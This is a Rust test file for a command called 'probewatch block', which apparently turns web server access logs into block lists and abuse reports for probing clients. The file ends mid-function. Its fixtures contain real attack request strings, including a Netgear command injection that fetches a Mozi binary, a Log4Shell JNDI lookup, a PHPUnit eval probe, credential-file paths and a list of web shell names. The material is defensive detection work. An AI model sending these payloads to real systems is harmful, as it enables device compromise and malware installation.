//! `probewatch block`: who is listed, who never is, and files that are equal for equal logs.

use std::collections::BTreeSet;
use std::fs;
use std::io::Write as _;

use jiff::Timestamp;

use crate::harness::{Harness, Run, line, skip};

/// Longer than any log here is old.
const LONG: [&str; 2] = ["--ttl", "36500d"];

const PROBES: [&str; 4] = ["/.git/config", "/.env", "/phpinfo.php", "/id_rsa"];

const FORMATS: [&str; 11] = [
    "plain",
    "nft",
    "ipset",
    "nginx",
    "nginx-geo",
    "apache",
    "crowdsec",
    "fail2ban",
    "abuseipdb",
    "abuse-mail",
    "csv",
];

/// A client that is clearly a prober.
fn prober(client: &str) -> String {
    PROBES
        .iter()
        .map(|path| line(client, &format!("GET {path} HTTP/1.1"), 404))
        .collect()
}

/// Ordinary requests of a client.
fn visitor(client: &str, requests: usize) -> String {
    (0..requests)
        .map(|n| line(client, &format!("GET /page/{n} HTTP/1.1"), 200))
        .collect()
}

/// Other clients, so that none makes nearly all requests.
fn others() -> String {
    (0..20)
        .map(|n| visitor(&format!("192.0.2.{n}"), 2))
        .collect()
}

fn block(harness: &Harness, args: &[&str]) -> Run {
    harness.run([&["block"], args].concat())
}

/// The entries of a plain list.
fn entries(run: &Run) -> Vec<String> {
    assert_eq!(run.code, 0, "{}", run.stderr);
    run.text()
        .lines()
        .filter(|line| !line.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

/// The entries of a list of this log.
fn listed(harness: &Harness, log: &str, args: &[&str]) -> Vec<String> {
    harness.file("access.log", log);
    entries(&block(harness, &[&LONG, args, &["access.log"]].concat()))
}

#[test]
fn probers_are_listed_and_others_are_not() {
    let harness = Harness::new();
    let log = [
        prober("203.0.113.9"),
        prober("10.0.0.1"),
        prober("-"),
        prober("bot.example"),
        prober("198.51.100.4") + &visitor("198.51.100.4", 2),
        visitor("198.51.100.5", 9) + &prober("198.51.100.5"),
        line("198.51.100.6", "GET /.env HTTP/1.1", 404),
        others(),
    ]
    .concat();
    assert_eq!(listed(&harness, &log, &[]), ["203.0.113.9"]);
    assert_eq!(
        listed(&harness, &log, &["--max-cost", "1"]),
        ["203.0.113.9"]
    );
    assert_eq!(
        listed(&harness, &log, &["--max-cost", "2"]),
        ["198.51.100.4", "203.0.113.9"]
    );
    // More ordinary requests than probes are never worth it.
    assert_eq!(
        listed(&harness, &log, &["--max-cost", "1000"]),
        ["198.51.100.4", "203.0.113.9"]
    );
    let run = block(&harness, &[&LONG[..], &["access.log"]].concat());
    assert!(
        run.stderr.contains("2 candidates are not listed")
            || run.stderr.contains("1 candidates are not listed"),
        "{}",
        run.stderr
    );
    let quiet = block(&harness, &[&LONG[..], &["-q", "access.log"]].concat());
    assert_eq!(quiet.stderr, "");
}

#[test]
fn ipv6_is_listed_by_64_with_all_that_it_costs() {
    let harness = Harness::new();
    let log = [
        prober("2001:db8:1:1::a"),
        prober("2001:db8:1:2::a"),
        prober("2001:db8:1:2::b"),
        // The same /64, without a probe.
        prober("2001:db8:1:3::a") + &visitor("2001:db8:1:3::b", 1),
        others(),
    ]
    .concat();
    assert_eq!(
        listed(&harness, &log, &[]),
        ["2001:db8:1:1::/64", "2001:db8:1:2::/64"]
    );
    assert_eq!(
        listed(&harness, &log, &["--max-cost", "1"]),
        [
            "2001:db8:1:1::/64",
            "2001:db8:1:2::/64",
            "2001:db8:1:3::/64"
        ]
    );
    assert_eq!(
        listed(&harness, &log, &["--ipv6-prefix", "64"]),
        ["2001:db8:1:1::/64", "2001:db8:1:2::/64"]
    );
    assert_eq!(
        listed(&harness, &log, &["--ipv6-prefix", "48", "--max-cost", "1"]),
        ["2001:db8:1::/48"]
    );
}

#[test]
fn sheltered_addresses_are_never_listed() {
    let harness = Harness::new();
    let log = [
        "203.0.113.9",
        "203.0.113.20",
        "198.51.100.7",
        "66.249.66.1",
        "2001:db8:7::1",
    ]
    .map(prober)
    .concat()
        + &others();
    let allow = harness.file(
        "allow.toml",
        "[[allow]]\nreason = 'ours'\nclients = ['203.0.113.20']\npaths = ['/nothing']\n",
    );
    let google = harness.file(
        "google.json",
        r#"{"prefixes": [{"ipv4Prefix": "66.249.64.0/19"}, {"ipv6Prefix": "2001:db8:7::/48"}]}"#,
    );
    let other = harness.file("bing.txt", "# lines\n198.51.100.7\n");
    let (allow, google, other) = (
        allow.to_str().unwrap(),
        google.to_str().unwrap(),
        other.to_str().unwrap(),
    );
    let all = listed(&harness, &log, &[]);
    assert_eq!(all.len(), 5);
    assert_eq!(listed(&harness, &log, &["--allow", allow]).len(), 4);
    assert_eq!(
        listed(&harness, &log, &["--trusted-proxy", "203.0.113.0/28"]).len(),
        4
    );
    let args = [
        "--allow",
        allow,
        "--verified-bots",
        google,
        "--verified-bots",
        other,
    ];
    assert_eq!(listed(&harness, &log, &args), ["203.0.113.9"]);
}

#[test]
fn refusals_exit_with_2_and_write_nothing() {
    let harness = Harness::new();
    harness.file("access.log", prober("203.0.113.9") + &others());
    harness.file("empty.json", "{\"prefixes\": []}");
    harness.file("all.txt", "0.0.0.0/0");
    let refused = |args: &[&str], part: &str| {
        let run = block(&harness, &[args, &["-o", "list"]].concat());
        assert_eq!(run.code, 2, "{args:?}: {}", run.stderr);
        assert!(run.stderr.contains(part), "{args:?}: {}", run.stderr);
        assert!(!harness.path("list").exists());
    };
    refused(
        &["access.log", "--verified-bots", "empty.json"],
        "has no range",
    );
    refused(
        &["access.log", "--verified-bots", "all.txt"],
        "every address",
    );
    refused(
        &["access.log", "--verified-bots", "missing"],
        "cannot be read",
    );
    refused(&["access.log", "--format", "iptables"], "nft");
    refused(&["access.log", "--max-cost=-1"], "--max-cost");
    refused(&["gone*.log"], "matches nothing");
    let json = harness.run([
        "scan",
        "-f",
        "json",
        "--anonymize",
        "-o",
        "hidden.json",
        "access.log",
    ]);
    assert_eq!(json.code, 0, "{}", json.stderr);
    refused(&["hidden.json"], "its clients are hidden");
    let old = fs::read_to_string(harness.path("hidden.json"))
        .unwrap()
        .replace("\"schema_version\": 10", "\"schema_version\": 3");
    harness.file("old.json", old);
    refused(&["old.json"], "schema_version 3");
    let run = harness
        .command(["block", "access.log"])
        .env("PROBEWATCH_ANONYMIZE", "truncate")
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(2));
    let run = block(&harness, &["access.log", "-o", "access.log"]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    // Nothing readable is no empty list: that would clear the set.
    harness.file("note.txt", "no log\nat all\n");
    for path in ["note.txt", "gone.log"] {
        let run = block(&harness, &[path, "-o", "list"]);
        assert_eq!(run.code, 3, "{}", run.stderr);
        assert!(!harness.path("list").exists(), "{path}");
    }
}

#[test]
fn an_empty_list_clears_the_set() {
    let harness = Harness::new();
    harness.file("access.log", others());
    harness.file("no.log", "");
    for log in ["access.log", "no.log"] {
        let run = block(&harness, &["--format", "nft", log]);
        assert_eq!(run.code, 0, "{}", run.stderr);
        assert!(
            run.text().contains("flush set inet probewatch block6\n")
                && !run.text().contains("add element"),
            "{}",
            run.text()
        );
    }
}

#[test]
fn an_empty_list_says_why() {
    let harness = Harness::new();
    let said = |log: &str, args: &[&str]| {
        harness.file("access.log", log);
        let run = block(&harness, &[args, &["access.log"]].concat());
        assert_eq!(
            (
                run.code,
                run.text().lines().any(|line| !line.starts_with('#'))
            ),
            (0, false),
            "{}",
            run.text()
        );
        run.stderr
    };
    assert_eq!(
        said(&others(), &[]),
        "note: the list is empty: no client is a block candidate\n"
    );
    assert_eq!(
        said("", &[]),
        "note: the list is empty: no client is a block candidate\n"
    );
    let mixed = [
        prober_ago("203.0.113.1", 30 * 3_600),
        prober_ago("203.0.113.2", 31 * 3_600),
        prober_ago("198.51.100.1", 60) + &visitor("198.51.100.1", 1),
        prober_ago("10.0.0.1", 60),
        reader("198.51.100.7", &["GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m"], "-"),
        prober("198.51.100.9").replace("[02/Nov/2026:08:01:00 +0000]", "[-]"),
        others(),
    ]
    .concat();
    let stderr = said(&mixed, &[]);
    for part in [
        "the list is empty: 6 candidates: 2 last probed over 24h ago (--ttl), 1 sent ordinary requests (--max-cost)",
        "1 may be readers of a page of others",
        "1 must not be listed (not a public address)",
        "1 have no time",
    ] {
        assert!(stderr.contains(part), "{part}: {stderr}");
    }
    assert_eq!(said(&mixed, &["-q"]), "");
    assert!(
        said(
            &(0..30)
                .map(|_| prober_ago("203.0.113.9", 60))
                .collect::<String>(),
            &[]
        )
        .contains("1 may be a proxy (--trusted-proxy)")
    );
    // AbuseIPDB accepts only what is new.
    let old = prober_ago("203.0.113.1", 61 * 86_400) + &prober_ago("203.0.113.2", 62 * 86_400);
    let stderr = said_of_abuse(&harness, &(old + &others()));
    assert!(stderr.contains("the list is empty: 2 candidates: 2 last probed over 60 days ago (AbuseIPDB accepts no older)"), "{stderr}");
}

/// What is said of a report to AbuseIPDB without an address.
fn said_of_abuse(harness: &Harness, log: &str) -> String {
    harness.file("access.log", log);
    let run = block(
        harness,
        &[&LONG[..], &["--format", "abuseipdb", "access.log"]].concat(),
    );
    assert_eq!(
        (run.code, run.text().lines().count()),
        (0, 1),
        "{}",
        run.text()
    );
    run.stderr
}

#[test]
fn a_damaged_log_gives_the_candidates_of_its_lines() {
    let harness = Harness::new();
    let mut log = (prober("203.0.113.9") + &others()).into_bytes();
    let half = log.len() / 2;
    let line_start = log[half..].iter().position(|&byte| byte == b'\n').unwrap() + half + 1;
    log.splice(line_start..line_start, vec![0; 5_000]);
    harness.file("access.log", &log);
    let run = block(
        &harness,
        &[&LONG[..], &["-q", "access.log", "-o", "list"]].concat(),
    );
    assert_eq!(run.code, 3, "{}", run.stderr);
    assert!(
        run.stderr.contains("access.log: ") && run.stderr.contains("NUL"),
        "{}",
        run.stderr
    );
    assert!(
        fs::read_to_string(harness.path("list"))
            .unwrap()
            .ends_with("\n203.0.113.9\n")
    );
    // None of its lines is a candidate's: that is an error, because it may be the damage.
    harness.file(
        "access.log",
        [others().into_bytes(), vec![0; 5_000], others().into_bytes()].concat(),
    );
    let run = block(
        &harness,
        &[&LONG[..], &["-q", "access.log", "-o", "list"]].concat(),
    );
    assert_eq!(run.code, 3, "{}", run.stderr);
    assert!(
        run.stderr.contains(
            "error: the list is empty: no client is a block candidate, and some input is damaged"
        ),
        "{}",
        run.stderr
    );
    // Nothing is left of it.
    harness.file("list", "kept");
    harness.file("access.log", vec![0; 5_000]);
    let run = block(
        &harness,
        &[&LONG[..], &["-q", "access.log", "-o", "list"]].concat(),
    );
    assert_eq!(run.code, 3, "{}", run.stderr);
    assert!(
        run.stderr
            .contains("error: no list is written: no line of the logs can be read"),
        "{}",
        run.stderr
    );
    assert_eq!(fs::read_to_string(harness.path("list")).unwrap(), "kept");
}

#[test]
fn two_lists_of_the_same_logs_are_equal() {
    let harness = Harness::new();
    let clients = [
        "203.0.113.9",
        "198.51.100.7",
        "9.9.9.9",
        "2001:db8::1",
        "2001:db8:0:1::1",
    ];
    harness.file("access.log", clients.map(prober).concat() + &others());
    for format in FORMATS.into_iter().filter(|format| *format != "crowdsec") {
        let args = [&LONG[..], &["--format", format, "access.log"]].concat();
        let (one, other) = (
            block(&harness, &args),
            block(&harness, &[&args[..], &["-j1"]].concat()),
        );
        assert_eq!((one.code, other.code), (0, 0), "{}", one.stderr);
        assert_eq!(one.text(), other.text(), "{format}");
    }
    let sorted = [
        "9.9.9.9",
        "198.51.100.7",
        "203.0.113.9",
        "2001:db8::/64",
        "2001:db8:0:1::/64",
    ];
    assert_eq!(
        entries(&block(&harness, &[&LONG[..], &["access.log"]].concat())),
        sorted
    );
}

#[test]
fn reports_logs_and_standard_input_give_the_same_entries() {
    let harness = Harness::new();
    let log = prober("203.0.113.9")
        + &prober("2001:db8::1")
        + &prober("198.51.100.4")
        + &visitor("198.51.100.4", 1)
        + &others();
    let expected = ["203.0.113.9", "2001:db8::/64"];
    assert_eq!(listed(&harness, &log, &[]), expected);
    for (name, args) in [
        ("scan.json", &[][..]),
        ("high.json", &["--min-severity", "high"]),
    ] {
        let run = harness.run([&["scan", "-f", "json", "-o", name, "access.log"], args].concat());
        assert_eq!(run.code, 0, "{}", run.stderr);
        assert_eq!(
            entries(&block(&harness, &[&LONG[..], &[name]].concat())),
            expected,
            "{name}"
        );
        let json = fs::read(harness.path(name)).unwrap();
        assert_eq!(
            entries(&harness.run_with_stdin([&["block"], &LONG[..], &["-"]].concat(), &json)),
            expected
        );
    }
    assert_eq!(
        entries(&harness.run_with_stdin([&["block"], &LONG[..]].concat(), log.as_bytes())),
        expected
    );
    let run = harness.run(["report", "--state", "state", "--out", "out", "access.log"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        entries(&block(&harness, &[&LONG[..], &["out/latest"]].concat())),
        expected
    );
    // A report and a log are one list: what a client did in one of them counts in the other.
    harness.file("later.log", visitor("203.0.113.9", 1) + &prober("9.9.9.9"));
    assert_eq!(
        entries(&block(
            &harness,
            &[&LONG[..], &["scan.json", "later.log"]].concat()
        )),
        ["9.9.9.9", "2001:db8::/64"]
    );
}

#[test]
fn the_worst_are_kept_where_there_are_too_many() {
    let harness = Harness::new();
    let weak = |client: &str| {
        line(
            client,
            "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m HTTP/1.1",
            404,
        )
    };
    let log = weak("198.51.100.1")
        + &weak("198.51.100.2")
        + &prober("203.0.113.9")
        + &prober("203.0.113.9")
        + &others();
    let all = listed(&harness, &log, &[]);
    assert_eq!(all, ["198.51.100.1", "198.51.100.2", "203.0.113.9"]);
    let run = block(
        &harness,
        &[&LONG[..], &["--max", "2", "access.log"]].concat(),
    );
    assert_eq!(entries(&run).len(), 2);
    assert!(
        run.text()
            .contains("2 entries to block; 1 more are left out"),
        "{}",
        run.text()
    );
    assert_eq!(
        entries(&block(
            &harness,
            &[&LONG[..], &["--max-block", "9", "access.log"]].concat()
        ))
        .len(),
        3
    );
}

#[test]
fn a_network_is_listed_if_all_of_its_clients_probe() {
    let harness = Harness::new();
    let of = |network: &str, last: &[u8]| {
        last.iter()
            .map(|n| prober(&format!("{network}.{n}")))
            .collect::<String>()
    };
    let log = of("203.0.113", &[1, 2, 3])
        + &of("198.51.100", &[1, 2, 3])
        + &visitor("198.51.100.77", 1)
        + &of("9.9.9", &[1, 2])
        + &others();
    let whole = [
        "9.9.9.1",
        "9.9.9.2",
        "198.51.100.1",
        "198.51.100.2",
        "198.51.100.3",
        "203.0.113.0/24",
    ];
    assert_eq!(listed(&harness, &log, &["--aggregate"]), whole);
    assert_eq!(listed(&harness, &log, &["--aggregate=2"])[0], "9.9.9.0/24");
    assert_eq!(listed(&harness, &log, &["--aggregate=4"]).len(), 8);
    // A sheltered address in it.
    assert_eq!(
        listed(
            &harness,
            &log,
            &["--aggregate", "--trusted-proxy", "203.0.113.200"]
        )
        .len(),
        8
    );
    // Reports to others name addresses.
    let csv = block(
        &harness,
        &[
            &LONG[..],
            &["--aggregate", "--format", "abuse-mail", "access.log"],
        ]
        .concat(),
    );
    assert!(
        !csv.text().contains("  203.0.113.0/24\n") && csv.text().contains("  203.0.113.1\n"),
        "{}",
        csv.text()
    );
}

/// A time as logs have it, this many seconds ago.
fn ago(seconds: i64) -> String {
    let then = Timestamp::from_second(Timestamp::now().as_second() - seconds).unwrap();
    then.strftime("%d/%b/%Y:%H:%M:%S +0000").to_string()
}

/// A prober, this many seconds ago.
fn prober_ago(client: &str, seconds: i64) -> String {
    prober(client).replace("02/Nov/2026:08:01:00 +0000", &ago(seconds))
}

#[test]
fn entries_leave_after_their_ttl() {
    let harness = Harness::new();
    let log =
        prober_ago("203.0.113.9", 3_600) + &prober_ago("198.51.100.7", 30 * 3_600) + &others();
    harness.file("access.log", log);
    assert_eq!(entries(&block(&harness, &["access.log"])), ["203.0.113.9"]);
    assert_eq!(
        entries(&block(&harness, &["--ttl", "30m", "access.log"])),
        [""; 0]
    );
    assert_eq!(
        entries(&block(&harness, &["--ttl", "2d", "access.log"])),
        ["198.51.100.7", "203.0.113.9"]
    );
    let csv = block(&harness, &["--format", "crowdsec", "access.log"]);
    let seconds: u64 = csv
        .text()
        .lines()
        .nth(1)
        .unwrap()
        .split('s')
        .next()
        .unwrap()
        .parse()
        .unwrap();
    // A day without an hour, less what the test took.
    assert!((82_000..=82_800).contains(&seconds), "{}", csv.text());
}

#[test]
fn clients_that_may_be_proxies_are_not_listed() {
    let harness = Harness::new();
    // One client makes all requests, and nothing else is known of it.
    let flood: String = (0..30).map(|_| prober("203.0.113.9")).collect();
    assert_eq!(listed(&harness, &flood, &[]), [""; 0]);
    let run = block(&harness, &[&LONG[..], &["access.log"]].concat());
    assert!(
        run.stderr.contains("may be a proxy") && run.stderr.contains("--trusted-proxy"),
        "{}",
        run.stderr
    );
    assert_eq!(
        listed(&harness, &flood, &["--trusted-proxy", "127.0.0.1"]),
        ["203.0.113.9"]
    );
    // The log of a server that a proxy forwards to.
    let forwarded = (prober("203.0.113.9") + &others())
        .replace("\"Mozilla/5.0\"\n", "\"Mozilla/5.0\" \"198.51.100.50\"\n");
    assert_eq!(listed(&harness, &forwarded, &[]), [""; 0]);
    let run = block(&harness, &[&LONG[..], &["access.log"]].concat());
    assert!(
        run.stderr.contains("--client-from x-forwarded-for"),
        "{}",
        run.stderr
    );
    // Two addresses before the time: none of them is certain.
    let doubtful = with_prefix("198.51.100.3 ", &(prober("203.0.113.9") + &others()));
    assert_eq!(listed(&harness, &doubtful, &[]), [""; 0]);
}

/// A reader of a page with links to these paths of the site, whose browser sends them.
fn reader(client: &str, requests: &[&str], referer: &str) -> String {
    const FIREFOX: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let sent = |request: &&str| line(client, &format!("{request} HTTP/1.1"), 404);
    let lines: String = requests.iter().map(sent).collect();
    lines.replace(
        "\"-\" \"Mozilla/5.0\"",
        &format!("\"{referer}\" \"{FIREFOX}\""),
    )
}

#[test]
fn readers_of_a_page_with_links_to_the_site_are_not_listed() {
    let harness = Harness::new();
    let images = [
        "GET /shell.php",
        "GET /.env",
        "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m",
    ];
    let frame = ["POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"; 9];
    let readers = [
        reader("198.51.100.1", &images[2..], "https://forum.example/thread/7"),
        reader("198.51.100.2", &images, "https://forum.example/"),
        reader("198.51.100.3", &images, "-"),
        reader("198.51.100.4", &frame, "null"),
        reader("2001:db8:9:9::1", &images, "-"),
        reader("2001:db8:9:9::2", &images, "-"),
        // A search engine and a preview follow the links too.
        line(
            "198.51.100.5",
            "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.1/Mozi.m HTTP/1.1",
            404,
        )
        .replace("Mozilla/5.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ];
    let crawler = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    // The same list, by tools and by one who sends more than a page has.
    let paths: Vec<String> = (0..10).map(|n| format!("GET /{n}/.env")).collect();
    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
    let tool = reader(
        "203.0.113.1",
        &images[2..],
        "https://forum.example/thread/7",
    );
    let probers = [
        tool.replace("Gecko", "Nikto").replace("Firefox", ""),
        reader("203.0.113.2", &paths, "https://forum.example/"),
        reader("203.0.113.3", &["POST /wp-login.php"; 10], "-"),
        prober("203.0.113.5").replace("Mozilla/5.0", crawler),
        reader("203.0.113.4", &images[2..], "-").replace(
            "Firefox/128.0",
            "Firefox/128.0 ${jndi:ldap://203.0.113.77/a}",
        ),
    ];
    let log = [
        readers.concat(),
        reader("203.0.113.9", &paths[..9], "-"),
        probers.concat(),
        others(),
    ]
    .concat();
    let expected = [
        "203.0.113.1",
        "203.0.113.2",
        "203.0.113.3",
        "203.0.113.4",
        "203.0.113.5",
    ];
    assert_eq!(listed(&harness, &log, &[]), expected);
    let run = block(&harness, &[&LONG[..], &["access.log"]].concat());
    assert!(
        run.stderr.contains(
            "7 candidates are not listed, because a page of others may have made their browser"
        ),
        "{}",
        run.stderr
    );
    // They are hits all the same, and a report gives the same list.
    let run = harness.run(["scan", "-f", "json", "-o", "scan.json", "access.log"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        fs::read_to_string(harness.path("scan.json"))
            .unwrap()
            .contains("198.51.100.1")
    );
    assert_eq!(
        entries(&block(&harness, &[&LONG[..], &["scan.json"]].concat())),
        expected
    );
    // A log without user agents does not show who sent a request.
    let common = |log: &str| {
        log.lines()
            .map(|line| line.split(" \"").take(2).collect::<Vec<_>>().join(" \"") + "\n")
            .collect::<String>()
    };
    assert_eq!(
        listed(&harness, &common(&log), &[]),
        ["203.0.113.2", "203.0.113.3"]
    );
}

/// The lines of a log with another first field.
fn with_prefix(prefix: &str, log: &str) -> String {
    log.split_inclusive('\n')
        .flat_map(|line| [prefix, line])
        .collect()
}

#[test]
fn abuse_reports_have_no_names_of_ours() {
    let harness = Harness::new();
    let log = prober("203.0.113.9")
        + &line("203.0.113.9", "GET /shop.example.org/.env HTTP/1.1", 404)
        + &others();
    let log = with_prefix("shop.example.org:443 ", &log);
    harness.file(
        "access.log",
        log.replace("\"-\"", "\"https://shop.example.org/private\""),
    );
    let run = block(
        &harness,
        &[
            &LONG[..],
            &["--format", "abuseipdb", "-o", "abuse.csv", "access.log"],
        ]
        .concat(),
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let text = fs::read_to_string(harness.path("abuse.csv")).unwrap();
    // These lines are as old as the log of all tests.
    assert!(
        text.starts_with("IP,Categories,ReportDate,Comment\n"),
        "{text}"
    );
    let mail = block(
        &harness,
        &[&LONG[..], &["--format", "abuse-mail", "access.log"]].concat(),
    )
    .text();
    assert!(
        mail.contains("203.0.113.9") && mail.contains("/.git/config"),
        "{mail}"
    );
    for text in [text, mail] {
        assert!(
            !text.contains("shop.example") && !text.contains("private"),
            "{text}"
        );
    }
}

#[test]
fn long_abuse_reports_are_cut_into_files() {
    let harness = Harness::new();
    let client = |n: usize| format!("203.{}.{}.{}", n / 65_536, n / 256 % 256, n % 256);
    let log: String = (0..12_000)
        .flat_map(|n| {
            PROBES[..3]
                .iter()
                .map(move |path| line(&client(n), &format!("GET {path} HTTP/1.1"), 404))
        })
        .collect::<String>()
        .replace("02/Nov/2026:08:01:00 +0000", &ago(60));
    harness.file("access.log", log);
    harness.file("abuse-3.csv", "IP,Categories,ReportDate,Comment\nold\n");
    harness.file("abuse-4.csv", "not ours\n");
    let run = block(
        &harness,
        &["--format", "abuseipdb", "-o", "abuse.csv", "access.log"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let lines = |name: &str| {
        fs::read_to_string(harness.path(name))
            .unwrap()
            .lines()
            .count()
            - 1
    };
    assert_eq!(lines("abuse.csv") + lines("abuse-2.csv"), 12_000);
    assert!(!harness.path("abuse-3.csv").exists() && harness.path("abuse-4.csv").exists());
    let run = block(&harness, &["--format", "abuseipdb", "access.log"]);
    assert_eq!((run.code, run.stdout.len()), (2, 0), "{}", run.stderr);
}

/// Lists every client that is named from the logs of a folder, with its requests, for a person to
/// read. Private addresses are mapped to public ones first.
#[test]
fn no_ordinary_client_is_named() {
    let Some(folder) = std::env::var_os("PROBEWATCH_TEST_LOGS") else {
        return skip(
            "no_ordinary_client_is_named",
            "PROBEWATCH_TEST_LOGS names no folder of logs",
        );
    };
    let harness = Harness::new();
    let private = regex::Regex::new(r"\b(?:198\.1([89])|192\.(168)|10\.([0-9]{1,3}))\.").unwrap();
    for file in fs::read_dir(folder)
        .unwrap()
        .map(|entry| entry.unwrap().path())
    {
        let cat = harness
            .program("sh")
            .args(["-c", "zcat -f \"$0\""])
            .arg(&file)
            .output()
            .unwrap();
        let log = String::from_utf8_lossy(&cat.stdout).into_owned();
        let log = private.replace_all(&log, |of: &regex::Captures<'_>| {
            format!("185.{}.", of.iter().flatten().last().unwrap().as_str())
        });
        let named: BTreeSet<String> = listed(&harness, &log, &[]).into_iter().collect();
        let mut out = std::io::stdout();
        writeln!(out, "{}: {} named", file.display(), named.len()).unwrap();
        for client in &named {
            let requests: Vec<_> = log
                .lines()
                .filter(|line| line.split(' ').take(2).any(|field| field == client))
                .collect();
            writeln!(
                out,
                "  {client}: {} requests, such as {}",
                requests.len(),
                requests.first().unwrap_or(&"")
            )
            .unwrap();
            for robot in [
                "Googlebot",
                "bingbot",
                "YandexBot",
                "Baiduspider",
                "DuckDuckBot",
                "Applebot",
                "jetmon",
                "UptimeRobot",
                "Pingdom",
            ] {
                assert!(
                    !requests.iter().any(|line| line.contains(robot)),
                    "{client} is {robot}: {requests:#?}"
                );
            }
        }
    }
}

/// What a list says about who is left out.
fn said(harness: &Harness, log: &str, args: &[&str]) -> String {
    harness.file("access.log", log);
    block(harness, &[&LONG, args, &["access.log"]].concat()).stderr
}

#[test]
fn edges_of_content_delivery_networks_are_left_out_and_counted() {
    let harness = Harness::new();
    let edges: Vec<_> = (1..=12)
        .map(|n| prober(&format!("162.158.90.{n}")))
        .collect();
    let log = edges.concat() + &prober("203.0.113.9") + &prober("151.101.1.2") + &others();
    for format in FORMATS {
        harness.file("access.log", &log);
        let run = block(
            &harness,
            &[
                &LONG[..],
                &["--format", format, "--aggregate", "access.log"],
            ]
            .concat(),
        );
        let text = run.text();
        assert!(
            text.contains("203.0.113.9")
                && !text.contains("162.158.90")
                && !text.contains("151.101."),
            "{format}: {text}"
        );
    }
    let text = said(&harness, &log, &[]);
    assert!(
        text.contains("note: 12 of Cloudflare's edges left out\n")
            && text.contains("note: 1 of Fastly's edges left out\n"),
        "{text}"
    );
    assert!(
        text.contains("35 % of clients are Cloudflare's proxies: log the real client (nginx: real_ip_header CF-Connecting-IP"),
        "{text}"
    );
    assert_eq!(
        listed(&harness, &log, &["--proxy-ranges", "none"]).len(),
        14
    );
    // Files add ranges, and beside `none` they replace the built-in ones.
    let aws = r#"{"prefixes": [{"ip_prefix": "203.0.113.0/24", "service": "CLOUDFRONT"}, {"ip_prefix": "0.0.0.0/1", "service": "EC2"}]}"#;
    harness.file("ip-ranges.json", aws);
    let args = ["--proxy-ranges", "ip-ranges.json"];
    assert_eq!(listed(&harness, &log, &args), [""; 0]);
    assert!(said(&harness, &log, &args).contains(
        "14 candidates: 12 of Cloudflare's edges left out, 1 of Fastly's edges left out"
    ));
    assert_eq!(
        listed(
            &harness,
            &log,
            &["--proxy-ranges", "none", "--proxy-ranges", "ip-ranges.json"]
        )
        .len(),
        13
    );
    harness.file("edges.txt", "# ours\n\nedge.example\n");
    let run = block(
        &harness,
        &["--proxy-ranges", "edges.txt", "access.log", "-o", "list"],
    );
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert!(
        run.stderr.contains(
            "--proxy-ranges: edges.txt: line 3: 'edge.example' is no network; write 192.0.2.0/24"
        ),
        "{}",
        run.stderr
    );
}

#[test]
fn a_log_of_proxies_alone_has_an_empty_list_and_a_sentence() {
    let harness = Harness::new();
    let of = |clients: &[String]| {
        clients
            .iter()
            .map(|client| prober(client) + &visitor(client, 2))
            .collect::<String>()
    };
    let edges: Vec<_> = (1..=20).map(|n| format!("172.71.8.{n}")).collect();
    let intranet: Vec<_> = (1..=20).map(|n| format!("192.168.7.{n}")).collect();
    for (clients, sentence) in [
        (
            &edges[..],
            "100 % of clients are Cloudflare's proxies: log the real client",
        ),
        (
            &["172.17.0.1".to_owned()],
            "172.17.0.1, a private address, makes 100 % of requests, as a proxy or the gateway of a container",
        ),
        (
            &intranet,
            "all 20 clients have private addresses, which are never listed: right for an intranet",
        ),
    ] {
        let log = of(clients);
        assert_eq!(listed(&harness, &log, &["--max-cost", "9"]), [""; 0]);
        let block = said(&harness, &log, &["--max-cost", "9"]);
        let empty = format!("the list is empty: {} candidate", clients.len());
        assert!(
            block.contains(sentence) && block.contains(&empty),
            "{block}"
        );
        assert_eq!(block.matches(sentence).count(), 1, "{block}");
        let scan = harness.run(["scan", "access.log"]);
        assert!(scan.stderr.contains(sentence), "{}", scan.stderr);
        assert!(
            harness
                .run(["scan", "-q", "access.log"])
                .stderr
                .contains(sentence),
            "a warning is not hidden"
        );
        let report = harness.run([
            "report",
            "--state",
            "state",
            "--out",
            "out",
            "--from-start",
            "--html",
            "access.log",
        ]);
        assert_eq!(report.code, 0, "{}", report.stderr);
        let page = fs::read_to_string(harness.path("out/latest/summary.txt")).unwrap();
        let page = page.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(page.contains(sentence), "{page}");
        assert!(!page.contains("Could block"), "{page}");
        // The same from the report.
        let from_report = block_of_report(&harness);
        assert!(
            from_report.contains(sentence) && from_report.contains(&empty),
            "{from_report}"
        );
        for folder in ["state", "out"] {
            fs::remove_dir_all(harness.path(folder)).unwrap();
        }
    }
}

fn block_of_report(harness: &Harness) -> String {
    let run = block(
        harness,
        &[&LONG[..], &["--max-cost", "9", "out/latest"]].concat(),
    );
    assert_eq!(entries(&run), [""; 0]);
    run.stderr
}

/// Names that shell scanners ask for; rules know some of them whatever the status is.
const SHELLS: [&str; 20] = [
    "alfa", "wso", "c99", "r57", "shell", "mini", "up", "cmd", "fox", "radio", "lock360", "bypass",
    "about", "ws", "xleet", "mar", "alfanew", "simple", "b374k", "ini",
];

/// Requests of a client for all of them, each with this status and size.
fn shells(client: &str, status: u16, bytes: impl Fn(usize) -> usize) -> String {
    let line = |(n, name): (usize, &str)| {
        let bytes = bytes(n);
        format!(
